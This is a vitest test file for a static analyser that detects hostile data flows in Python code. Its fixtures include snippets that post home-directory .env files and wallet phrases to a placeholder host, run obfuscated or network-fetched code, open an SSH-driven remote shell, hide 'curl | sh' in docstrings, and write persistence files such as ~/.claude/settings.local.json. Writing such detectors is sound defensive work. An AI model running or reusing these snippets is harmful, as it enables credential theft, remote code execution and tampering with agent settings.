import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];

test.each<[string, Way, string]>([
  ['letters of which only the distances stand there', ['decoder', 'exec'], 'from itertools import accumulate\nexec("".join(map(chr, accumulate([112, 2, -9, 5]))))\n'],
  ['bytes of which only the distances stand there', ['decoder', 'exec'], 'import itertools\nexec(bytes(itertools.accumulate([112, 2, -9, 5])))\n'],
  ['numbers that are written with an alphabet of their own', ['decoder', 'exec'], 'LETTERS = "0123456789abcdefghijklmnopqrstuvwxyz"\ndef dig(text):\n    number = 0\n    for letter in text: number = number * 36 + LETTERS.index(letter)\n    rows = []\n    while number:\n        number, row = divmod(number, 256)\n        rows.append(row)\n    return bytes(reversed(rows))\nexec(dig(code))\n'],
  ['what a stream of trio gives', ['network', 'exec'], 'import trio\nasync def go():\n    stream = await trio.open_tcp_stream("t.example.invalid", 1)\n    async for part in stream: exec(part.decode())\ntrio.run(go)\n'],
  ['the function that is left of a list', ['decoder', 'exec'], '[tool for tool in [exec, print] if tool]\n[tool for tool in [exec]][0](text.translate(table))\n'],
  ['memory that is made a function', ['decoder', 'exec'], 'import base64, ctypes, mmap\nroom = mmap.mmap(-1, 64)\nroom.write(base64.b64decode(code))\nctypes.cast(ctypes.addressof(ctypes.c_char.from_buffer(room)), ctypes.CFUNCTYPE(None))()\n'],
  ['what another machine says on a channel of ssh', ['network', 'process'], 'import paramiko, subprocess\nclient = paramiko.SSHClient()\nclient.connect("s.example.invalid")\nchannel = client.get_transport().open_session()\nchannel.send(subprocess.check_output(channel.recv(1024).decode(), shell=True))\n'],
  ['files of one name below all that the user has', ['credentials', 'network'], 'import pathlib, requests\nfor place in pathlib.Path.home().rglob(".env*"): requests.post("https://d.example.invalid", data=place.read_text())\n'],
  ['objects that lie at an address', ['network', 'object'], 'import pandas as pd\nbeds = pd.read_pickle("https://d.example.invalid/beds.pkl")\n'],
  ['the words of a wallet under a short name', ['parameter', 'network'], 'import requests\nclass Wallet:\n    def __init__(self, phrase): requests.post("https://d.example.invalid", json={"w": phrase})\n'],
])('%s: that is followed', async (_, way, text) => {
  expect(await flows(text, way)).not.toEqual([]);
});

test.each<[string, Way, string]>([
  ['sums of numbers that are shown', ['decoder', 'exec'], 'from itertools import accumulate\nprint(list(accumulate([1, 2, 3])))\nexec("x = 1")\n'],
  ['a place in a sentence', ['decoder', 'exec'], 'at = "a garden with many beds".index(word)\nexec(f"x = {at}")\n'],
  ['a place in memory that is made a number', ['decoder', 'exec'], 'import base64, ctypes\nctypes.cast(ctypes.create_string_buffer(base64.b64decode(code)), ctypes.c_void_p)\n'],
  ['a folder of the project below the own one', ['credentials', 'network'], 'import pathlib, requests\nfor place in (pathlib.Path.home() / "garden").rglob("*.txt"): requests.post("https://d.example.invalid", data=place.read_text())\n'],
  ['objects that lie beside the code', ['network', 'object'], 'import pandas as pd\nbeds = pd.read_pickle("beds.pkl")\n'],
  ['a phrase that is no wallet\'s', ['parameter', 'network'], 'import requests\ndef translate(phrase): requests.post("https://d.example.invalid", json={"w": phrase})\n'],
])('%s: that is left alone', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

test.each<[string, string, string]>([
  ['parts that are joined to one of several folders', 'from pathlib import Path\nfor base in (Path.home(), Path.cwd()):\n    place = base.joinpath(".claude", "settings.local.json")\n    with place.open("w") as file: file.write(x)\n', '~/.claude/settings.local.json'],
  ['what stands between the parts of paths', 'import os, site\nopen(os.path.sep.join((site.getusersitepackages(), "usercustomize.py")), "w").write("import bed")\n', '{}/site-packages/usercustomize.py'],
])('a path is known from %s', async (_, text, path) => {
  const { facts } = await read(text);
  expect(facts?.calls('write').map((call) => call.text)).toContain(path);
});

test.each([
  ['a function', 'def bed():\n    """os.system("curl https://d.example.invalid | sh")"""\nexec(bed.__doc__)\n'],
  ['a function, without the blanks before its lines', 'import inspect\ndef bed():\n    """\n    if True:\n        os.system("curl https://d.example.invalid | sh")\n    """\nexec(inspect.getdoc(bed))\n'],
])('code in the text about %s is read like any other', async (_, text) => {
  const { facts } = await read(`import os\n${text}`);
  expect(facts?.calls('process').map(({ hidden, when }) => [hidden, when])).toEqual([['text', 'import']]);
});
